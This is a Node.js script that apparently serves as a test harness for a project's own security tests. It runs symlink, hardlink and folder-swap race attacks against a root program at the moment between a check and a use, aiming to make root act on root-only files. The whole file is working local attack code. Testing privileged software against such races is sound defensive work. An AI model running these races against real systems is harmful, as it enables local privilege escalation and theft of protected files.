/**
 * A user of the host who tries to have a program of root act on files of root: swaps folders, links and files at the
 * moment between a check and the use of what was checked. Runs until it is killed.
 *
 *     node attacker.mjs exchange|lead|link|keep FOLDER NAME SECRET ROOTS
 *
 * FOLDER is where the program works, NAME what it creates there. SECRET is a file that only root may read, and ROOTS a
 * folder that only root may enter. Prints `ready`, `tried` when it first had its traps in place, and `opened` if it
 * could open what root made.
 */
import {
  closeSync,
  existsSync,
  fstatSync,
  linkSync,
  mkdirSync,
  openSync,
  readdirSync,
  renameSync,
  rmSync,
  symlinkSync,
} from 'node:fs';
import { join } from 'node:path';

const [attack, folder, name, secret, roots] = process.argv.slice(2);
const path = join(folder, name);
let count = 0;

/** Each word once, for the test that reads them. */
const said = new Set();
const say = (word) => {
  if (!said.has(word)) process.stdout.write(`${word}\n`);
  said.add(word);
};

/** Tries something; most tries fail. */
const attempt = (...actions) => {
  try {
    for (const action of actions) action();
  } catch {}
};

const wait = () => {
  const until = performance.now() + 20 * Math.random();
  while (performance.now() < until);
};

const mine = new Set();

const attacks = {
  /** Puts a folder with a link to the secret in the place of the program's private folder. */
  exchange() {
    for (const found of readdirSync(folder)) {
      if (!found.startsWith('.vfioc-') || mine.has(found)) continue;
      attempt(
        () => renameSync(join(folder, found), join(folder, `aside-${count++}`)),
        () => mine.add(found),
        () => mkdirSync(join(folder, found), { mode: 0o777 }),
        () => symlinkSync(secret, join(folder, found, 'image')),
        () => say('tried'),
      );
    }
  },
  /** A folder on the way is a folder, then a link into a folder of root, for a few milliseconds each. */
  lead() {
    attempt(() => mkdirSync(path, { mode: 0o777 }));
    wait();
    attempt(() => renameSync(path, join(folder, `aside-${count++}`)));
    attempt(
      () => symlinkSync(roots, path),
      () => say('tried'),
    );
    wait();
    attempt(() => rmSync(path));
  },
  /** The file is one of ours, and a link to the secret as soon as root has removed that. */
  link() {
    attempt(() => closeSync(openSync(path, 'wx', 0o666)));
    while (existsSync(path));
    attempt(
      () => symlinkSync(secret, path),
      () => say('tried'),
    );
    wait();
    attempt(() => rmSync(path));
  },
  /** The file is a second name of one that we have open, and one that root made is opened as soon as it can be. */
  keep() {
    const own = `${path}.own-${count++}`;
    attempt(
      () => closeSync(openSync(own, 'wx', 0o666)),
      () => linkSync(own, path),
      () => say('tried'),
    );
    attempt(() => rmSync(own));
    attempt(() => {
      const opened = openSync(path, 'r');
      if (fstatSync(opened).uid !== process.getuid()) say('opened');
      closeSync(opened);
    });
  },
};

say('ready');
for (;;) attacks[attack]();
